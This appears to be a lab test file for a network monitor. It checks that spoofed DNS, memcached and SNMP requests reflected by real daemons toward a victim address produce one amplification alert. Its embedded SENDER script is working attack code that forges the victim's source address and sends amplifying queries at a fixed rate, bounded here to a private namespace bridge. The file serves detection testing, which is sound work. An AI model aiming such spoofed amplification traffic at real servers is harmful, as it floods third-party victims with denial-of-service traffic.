"""Genuine amplification: real servers answer spoofed requests toward a victim (#15).

Three network namespaces this test creates on one private bridge (10.78.0.0/24, nothing else
is reached): the attacker sends requests whose source is the victim's address, bounded in
count and rate; the reflector runs the real daemons Debian ships (dnsmasq with a large TXT
record, memcached with UDP on, snmpd answering GetBulk); their answers, larger than the
requests, flood the victim, where the monitor captures live (TPACKET_V3 ring). Each protocol
gives exactly one alert, UDP reflection naming it, against the victim; the reflector, which
only answers, gets none. Measured from the first spoofed request, so the reflector's own
start-up is included: 0.23 s (memcached), 0.48 s (DNS), 0.98 s (SNMP: snmpd reaches 2,000
answers/s only in its second half-second); the bound is 1.5 s. Answers of 1,000-1,160 bytes
for requests of 57-84: amplification 13-20x.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.monitors.segment import ADDR, MAC, monitor_at_victim, ns_exec, segment

pytestmark = pytest.mark.lab
DAEMONS = {"DNS": "dnsmasq", "memcached": "memcached", "SNMP": "snmpd"}
needs_daemons = pytest.mark.skipif(
    any(shutil.which(d, path="/usr/sbin:/usr/bin") is None for d in DAEMONS.values()),
    reason="apt install dnsmasq-base memcached snmpd",
)
REQUESTS = 5000  # per protocol, at RATE per second: 2.5 s, then the sender stops by itself
RATE = 2000
# The spoofed requests' frame sizes, about (each answer must be larger: amplification).
REQUEST_BYTES = {"DNS": 84, "memcached": 57, "SNMP": 80}

# The attacker's sender: requests of one protocol from the victim's address, at a fixed rate.
SENDER = """
import socket, sys, time
from scapy.all import ASN1_OID, DNS, DNSQR, DNSRROPT, Ether, IP, SNMP, SNMPbulk, SNMPvarbind, UDP
proto, count, rate = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
victim, reflector, mac_from, mac_to = sys.argv[4:8]
def payload(i):
    if proto == "DNS":
        return DNS(id=i & 0xFFFF, rd=1, qd=DNSQR(qname="big.kastro.test", qtype="TXT"),
                   ar=DNSRROPT(rclass=4096)), 53
    if proto == "memcached":
        return (i & 0xFFFF).to_bytes(2, "big") + bytes([0, 0, 0, 1, 0, 0]) + b"stats\\r\\n", 11211
    return SNMP(community="public", PDU=SNMPbulk(id=i, max_repetitions=25,
                varbindlist=[SNMPvarbind(oid=ASN1_OID("1.3.6.1.2.1.1"))])), 161
frames = []
for i in range(256):
    body, port = payload(i)
    frames.append(bytes(Ether(src=mac_from, dst=mac_to) / IP(src=victim, dst=reflector) /
                        UDP(sport=20000 + i * 97 % 40000, dport=port) / body))
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind(("veth0", 0))
print(f"first {time.time():.6f}", flush=True)
start = time.monotonic()
for n in range(count):
    out.send(frames[n % len(frames)])
    if n % 50 == 49:
        ahead = start + (n + 1) / rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
print(f"{count} sent in {time.monotonic() - start:.2f} s")
"""


def start_reflector(protocol: str, tmp_path: Path) -> subprocess.Popen[bytes]:
    here = ADDR["reflector"]
    if protocol == "DNS":
        text = ",".join(["x" * 250] * 4)  # about 1 KB of answer for a 40-byte question
        argv = ["dnsmasq", "--no-daemon", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
                f"--listen-address={here}", "--bind-interfaces", "--user=nobody",
                f"--txt-record=big.kastro.test,{text}", "--cache-size=0", "--dns-forward-max=5000",
                f"--pid-file={tmp_path / 'dnsmasq.pid'}"]  # fmt: skip
    elif protocol == "memcached":
        argv = ["memcached", "-U", "11211", "-p", "0", "-l", here, "-u", "nobody", "-t", "2"]
    else:
        conf = tmp_path / "snmpd.conf"
        conf.write_text(f"agentaddress udp:{here}:161\nrocommunity public default\n")
        argv = ["snmpd", "-f", "-Lo", "-C", "-c", str(conf), "-p", str(tmp_path / "snmpd.pid")]
    daemon = subprocess.Popen(ns_exec("reflector", *argv), stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)  # fmt: skip
    time.sleep(1.5)
    assert daemon.poll() is None, f"{argv[0]} did not start"
    return daemon


@needs_daemons
@pytest.mark.parametrize("protocol", ["DNS", "memcached", "SNMP"])
def test_real_servers_reflecting_spoofed_requests_are_one_alert_naming_them(tmp_path, protocol):
    # The victim's firewall drops what it never asked for: no ICMP errors back to the reflector.
    with segment("udp sport { 53, 161, 11211 } drop"):
        daemon = start_reflector(protocol, tmp_path)
        with monitor_at_victim(tmp_path) as alerts:
            sent = subprocess.run(
                ns_exec("attacker", sys.executable, "-c", SENDER, protocol, str(REQUESTS),
                        str(RATE), ADDR["victim"], ADDR["reflector"], MAC["attacker"],
                        MAC["reflector"]),
                capture_output=True, text=True, timeout=60,
            )  # fmt: skip
            assert sent.returncode == 0, sent.stderr[-2000:]
        daemon.kill()
    seen = [(a["alert"]["signature_id"], a["dest_ip"]) for a in alerts]
    print(f"\n{protocol}: {sent.stdout.splitlines()[-1]}; alerts {seen}")
    assert seen == [(9100071, ADDR["victim"])], alerts
    alert = alerts[0]
    assert protocol in alert["alert"]["signature"], alert["alert"]["signature"]
    evidence = alert["kastro"]
    print(f"{protocol}: evidence {evidence}")
    # Genuine amplification: what reached the victim is larger than what was asked.
    assert evidence["reflected_protocol"] == protocol
    size = evidence["megabits_per_second"] * 1e6 / 8 / evidence["packets_per_second"]
    assert size > 2 * REQUEST_BYTES[protocol], evidence
    first = float(sent.stdout.split()[1])  # the sender's clock at its first request
    latency = _epoch(alert["timestamp"]) - first
    print(f"{protocol}: alert {latency:.2f} s after the first spoofed request")
    assert latency < 1.5, f"{latency:.2f} s from the first spoofed request to the alert"


def _epoch(timestamp: str) -> float:
    from datetime import datetime

    return datetime.strptime(timestamp, "%Y-%m-%dT%H:%M:%S.%f%z").timestamp()
